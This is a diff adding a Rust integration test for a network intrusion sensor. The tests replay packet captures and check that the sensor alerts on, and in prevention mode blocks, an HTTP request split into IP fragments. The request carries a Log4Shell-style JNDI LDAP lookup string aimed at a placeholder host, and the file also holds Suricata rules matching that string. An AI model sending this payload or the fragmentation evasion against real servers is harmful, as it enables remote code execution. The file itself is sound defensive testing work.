@@ -1,0 +1,154 @@
+//! The evasion corpus on the real binary (`sensor replay` over `net_pcap`): what a hostile
+//! sender does so that an inspector misses bytes the receiver will still assemble, with
+//! the alert Suricata 7 raises for each, and in prevention the proof, read from the
+//! `--out` capture, that the receiver never gets the complete malicious bytes. Beside it,
+//! suricata-verify's own cases with the alerts their `test.yaml` expects.
+
+// A test fails by panicking: unwrap, expect and panic are its assertions.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::path::{Path, PathBuf};
+
+use testkit::conversation::TcpConversation;
+use testkit::files::{eve_events, rules_file, shared};
+use testkit::pcap;
+use testkit::process::{replay, Finished};
+
+const SENSOR: &str = env!("CARGO_BIN_EXE_sensor");
+
+const EXPLOIT: &[u8] =
+    b"GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\r\nHost: victim\r\nUser-Agent: t\r\n\r\n";
+
+/// Replays `frames` in `mode` with `rules`: the run, its EVE file and what it forwarded.
+fn replay_frames(
+    dir: &Path,
+    frames: &[(u64, Vec<u8>)],
+    mode: &str,
+    rules: &Path,
+) -> (Finished, PathBuf, Vec<Vec<u8>>) {
+    let input = dir.join("in.pcap");
+    pcap::write_timed(&input, frames);
+    let eve = dir.join("eve.json");
+    let out = dir.join("out.pcap");
+    let run = replay(
+        SENSOR,
+        &input,
+        mode,
+        &out,
+        &[
+            "--rules",
+            rules.to_str().unwrap(),
+            "--eve",
+            eve.to_str().unwrap(),
+        ],
+    );
+    let forwarded = pcap::read(&out);
+    (run, eve, forwarded)
+}
+
+/// `frames` a millisecond apart.
+fn timed(frames: Vec<Vec<u8>>) -> Vec<(u64, Vec<u8>)> {
+    frames
+        .into_iter()
+        .enumerate()
+        .map(|(i, f)| (1_700_000_000_000_000 + 1000 * i as u64, f))
+        .collect()
+}
+
+/// The signature ids of an EVE file's alerts, in order.
+fn alert_sids(eve: &Path) -> Vec<u64> {
+    eve_events(eve, "alert")
+        .iter()
+        .map(|a| a["alert"]["signature_id"].as_u64().unwrap())
+        .collect()
+}
+
+#[test]
+fn suricata_verify_defrag_cases_raise_the_alerts_their_test_yaml_expects() {
+    // Both expect one alert of sid 1 on the reassembled packet: a TCP SYN whose header
+    // is split across IPv4 fragments, and a 1,000-byte IPv6 TCP payload in fragments.
+    for (case, pcap_name) in [
+        (
+            "defrag_bug-6887-defrag-ipv4-tcp-syn",
+            "frag-ip-tcp-syn.pcap",
+        ),
+        ("defrag_bug-6887-defrag-ipv6-tcp", "frag-ip-tcp.pcap"),
+    ] {
+        let case_dir = shared(&format!("suricata-verify/{case}"));
+        let yaml = std::fs::read_to_string(case_dir.join("test.yaml")).unwrap();
+        assert!(yaml.contains("count: 1") && yaml.contains("alert.signature_id: 1"));
+        let dir = tempfile::tempdir().unwrap();
+        let frames = pcap::read_as_ethernet(&case_dir.join(pcap_name));
+        assert!(frames.len() > 1, "{case}: fragments");
+        let (run, eve, _) = replay_frames(
+            dir.path(),
+            &frames,
+            "detection",
+            &case_dir.join("test.rules"),
+        );
+        assert_eq!(alert_sids(&eve), [1], "{case}");
+        let defrag = &run.final_stats()["engine"]["defrag"];
+        assert_eq!(defrag["reassembled"], 1, "{case}: {defrag}");
+    }
+}
+
+/// A connection whose request carrying the exploit is cut into 12 IPv4 fragments (out of
+/// order when `reversed`): the frames, and the indices of the fragments.
+fn fragmented_exploit(reversed: bool) -> (Vec<Vec<u8>>, std::ops::Range<usize>) {
+    let conv = TcpConversation::open(
+        "10.1.1.1:40000".parse().unwrap(),
+        "10.2.2.2:80".parse().unwrap(),
+        None,
+    )
+    .send(true, EXPLOIT)
+    .close();
+    let mut frames = conv.frames();
+    let request = frames.remove(3);
+    let cuts: Vec<usize> = (1..12).map(|i| i * 8).collect();
+    let mut frags = testkit::fragments::split(&request, &cuts, 0x1234);
+    assert_eq!(frags.len(), 12);
+    if reversed {
+        frags.reverse();
+    }
+    let at = 3..3 + frags.len();
+    frames.splice(3..3, frags);
+    (frames, at)
+}
+
+#[test]
+fn an_exploit_in_ip_fragments_alerts_and_its_completing_fragment_never_reaches_the_receiver() {
+    let dir = tempfile::tempdir().unwrap();
+    let alert = rules_file(
+        dir.path(),
+        "alert",
+        "alert tcp any any -> any 80 (msg:\"jndi\"; flow:established,to_server; content:\"${jndi:\"; sid:1;)\n",
+    );
+    let drop = rules_file(
+        dir.path(),
+        "drop",
+        "drop tcp any any -> any 80 (msg:\"jndi\"; flow:established,to_server; content:\"${jndi:\"; sid:1;)\n",
+    );
+    for reversed in [false, true] {
+        let (frames, frags) = fragmented_exploit(reversed);
+        let (_, eve, _) = replay_frames(dir.path(), &timed(frames.clone()), "detection", &alert);
+        let a = eve_events(&eve, "alert");
+        assert_eq!(a.len(), 1, "reversed {reversed}");
+        assert_eq!(
+            a[0]["pcap_cnt"], frags.end as u64,
+            "on the completing fragment"
+        );
+
+        let (run, eve, forwarded) =
+            replay_frames(dir.path(), &timed(frames.clone()), "prevention", &drop);
+        assert_eq!(eve_events(&eve, "alert")[0]["alert"]["action"], "blocked");
+        // Forwarded: everything before the completing fragment, in order; not it, nor the
+        // flow's later packets.
+        assert_eq!(forwarded, frames[..frags.end - 1], "reversed {reversed}");
+        let stats = run.final_stats();
+        assert_eq!(stats["engine"]["defrag"]["reassembled"], 1);
+        assert_eq!(
+            stats["engine"]["verdict_drops"].as_u64().unwrap() as usize,
+            frames.len() - (frags.end - 1)
+        );
+    }
+}
